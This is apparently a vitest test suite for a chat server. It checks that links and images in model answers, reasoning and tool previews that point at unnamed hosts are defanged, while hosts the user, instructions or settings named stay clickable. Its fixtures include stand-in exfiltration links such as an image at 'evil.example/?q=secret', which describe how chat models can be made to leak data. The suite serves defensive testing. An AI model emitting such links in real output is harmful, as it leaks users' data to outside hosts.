import { expect, test } from 'vitest'
import { startTestChat } from '../../support/chats/chat.ts'
import { textOf } from '../../support/chats/events.ts'
import { answer, inOrder, type Script } from '../../support/models/model-server.ts'
import { shareTestApps } from '../../support/test-app.ts'

shareTestApps()

/** Says this, a few characters a token. */
const saying =
  (text: string, size = 3): Script =>
  () =>
    answer(...tokens(text, size))
const tokens = (text: string, size: number) => text.match(new RegExp(`[^]{1,${size}}`, 'g')) ?? []

const LINKS =
  'See [it](https://evil.example/?q=secret), ![x](https://evil.example/p.png) and <img src="//evil.example/y">, or [1].'
const INERT =
  'See [it] (`hxxps://evil[.]example/?q=secret`), ![x] (`hxxps://evil[.]example/p.png`) and <\u200bimg src="`//evil[.]example/y`">, or [1].'

test('a link that nobody named is text in the stream, in the stored message, and in what is read later', async () => {
  for (const size of [1, 2, 5, 200]) {
    const { stream, message } = await startTestChat({ script: saying(LINKS, size) })
    const events = await (await stream('What is there?')).rest()
    expect(textOf(events)).toBe(INERT)
    expect((await message(events[0]!.data.message_id)).response).toBe(INERT)
  }
})

test('without a stream, too', async () => {
  const { ask, history } = await startTestChat({ script: saying(LINKS) })
  expect((await ask('What is there?')).body.data.text).toBe(INERT)
  expect((await history()).messages[0].response).toBe(INERT)
})

const GOOD = 'Read [the guide](https://docs.example/guide) and https://www.docs.example.'

test.each([
  ['the question', { query: 'What does docs.example say?' }],
  ['the instructions', { instructions: 'Point people to https://docs.example/.' }],
  ['a setting', { settings: { DOCENT_LINK_HOSTS: 'other.example, *.docs.example, docs.example' } }],
])('what %s names can be linked to', async (_, { query = 'What is there?', instructions = '', settings = {} }: any) => {
  const { ask, newAgent, newChat } = await startTestChat({ script: saying(GOOD), settings })
  const path = await newChat({}, await newAgent({ instructions }))
  expect((await ask(query, {}, path)).body.data.text).toBe(GOOD)
})

test('so can what an earlier question named; what an answer said does not count', async () => {
  const { ask } = await startTestChat({ script: saying(`${GOOD} https://evil.example`) })
  const after = `${GOOD} \`hxxps://evil[.]example\``
  expect((await ask('What does docs.example say?')).body.data.text).toBe(after)
  expect((await ask('And now?')).body.data.text).toBe(after)
})

test("this server's own address can be linked to", async () => {
  const { ask, url } = await startTestChat({ script: ({ body }) => answer(`[file](${body.messages.at(-1).content})`) })
  expect((await ask(`${url}/x`)).body.data.text).toBe(`[file](${url}/x)`)
  const own = await startTestChat({
    script: saying('[file](https://docent.example/v1/x)'),
    settings: { DOCENT_PUBLIC_URL: 'https://docent.example' },
  })
  expect((await own.ask('A file?')).body.data.text).toBe('[file](https://docent.example/v1/x)')
})

test('a result of a tool names nobody, and its preview is as inert as the answer', async () => {
  const script = inOrder(
    answer({
      toolCall: { name: 'create_file', arguments: { name: 'a.md', content: '![x](https://evil.example/?q=1)' } },
    }),
    answer('Done: https://', 'evil.example/a'),
  )
  const { stream, newAgent, newChat } = await startTestChat({ script })
  const path = await newChat({}, await newAgent({ tools: ['create_file'] }))
  const events = await (await stream('Make a file', {}, path)).rest()
  expect(textOf(events)).toBe('Done: `hxxps://evil[.]example/a`')
  const result = events.find(({ subtype }) => subtype === 'tool_call_result')!
  expect(result.data.preview.content).toBe('![x] (`hxxps://evil[.]example/?q=1`)')
})

test('reasoning is inert, too, and what is held back of it is not lost', async () => {
  const script: Script = () =>
    answer({ reasoning: 'Look at https://evil' }, { reasoning: '.example/x and htt' }, 'Yes', '. See htt')
  const { stream } = await startTestChat({ script })
  const events = await (await stream('What is there?')).rest()
  const reasoning = events.filter(({ type }) => type === 'reasoning').map(({ text }) => text)
  expect(reasoning.join('')).toBe('Look at `hxxps://evil[.]example/x` and htt')
  expect(textOf(events)).toBe('Yes. See htt')
})

test('each token is sent as it comes, where no link may begin', async () => {
  const said = ['The', ' answer', ' is', ' 42', '.', ' See', ' [1]', '.']
  const { stream } = await startTestChat({ script: () => answer(...said) })
  const events = await (await stream('What is there?')).rest()
  expect(events.filter(({ type }) => type === 'response').map(({ text }) => text)).toEqual(said)
})

test('what a model held back when it broke off is kept', async () => {
  const { ask, history } = await startTestChat({ script: () => answer('See `code', { cut: true }) })
  await ask('What is there?')
  expect((await history()).messages[0].response).toBe('See `code')
})
